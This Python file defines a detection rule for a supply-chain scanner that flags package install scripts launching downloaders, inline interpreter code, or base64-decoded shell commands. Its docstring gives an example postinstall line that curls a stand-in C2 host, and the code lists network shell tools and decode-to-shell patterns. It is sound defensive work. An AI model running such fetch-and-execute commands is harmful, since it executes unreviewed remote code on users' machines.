"""A package's script runs a downloader or code from its command line.

What it sees
    A program that a lifecycle script started is a download tool, or an interpreter that was given much code as an
    argument (`node -e`, `python -c`), or a shell that undoes an encoding and runs the result.

Why it matters
    Code that is nowhere in the package's files cannot be reviewed in them.

Example
    npm:graph-x@2.2.9 postinstall -> sh -> curl -s https://c2.test/x

What to do
    Look at the package's script.

False alarms
    Build scripts that download a compiler; they are few.

References
    ATT&CK T1059, T1105.
"""

import posixpath
import re
from collections.abc import Iterator

from lazaretto.detect.behaviour import Behaviour
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.behaviour import Program
from lazaretto.model.finding import Confidence, Phase, Role, Severity
from lazaretto.model.text import N_

_DOWNLOADERS = frozenset({"curl", "wget", "nc", "ncat", "socat", "ftp", "tftp", "scp"})
_INTERPRETER = re.compile(r"(?:node|bun|deno|perl|ruby|php|python[0-9.]{0,6})")
_INLINE = frozenset({"-e", "-c", "-p", "-r", "--eval", "--print"})
_DECODED = re.compile(r"base64 +(?:-d|-D|--decode)|\|\s{0,9}(?:ba|z|da)?sh\b")
_LONG = 200
"""Characters of code from which on it is more than a question for a version or a path."""


def check(behaviour: Behaviour) -> Iterator[Match]:
    """One match for each such program."""
    for program in behaviour.of_packages:
        if _is_inline(program):
            yield Match(
                N_("the script {script} of {package} ran {command}"),
                path=behaviour.record.project,
                params={
                    "script": program.script,
                    "package": program.package,
                    "command": " ".join(program.argv)[:160],
                },
                excerpt=" ".join(program.argv),
                process=behaviour.record.programs.index(program),
            )


def _is_inline(program: Program) -> bool:
    name = posixpath.basename(program.path)
    if name in _DOWNLOADERS:
        return True
    code = next((after for word, after in zip(program.argv, program.argv[1:], strict=False) if word in _INLINE), "")
    if _INTERPRETER.fullmatch(name):
        return len(code) >= _LONG
    return name in ("sh", "bash", "dash", "zsh") and bool(_DECODED.search(code))


RULE = Rule(
    id="run/script-runs-inline",
    title=N_("A package's script runs a downloader or code from its command line"),
    view=Behaviour,
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    phase=Phase.INSTALL,
    role=Role.EXECUTE,
    check=check,
    doc=__doc__ or "",
    techniques=("T1059", "T1105"),
    state="experimental",
)
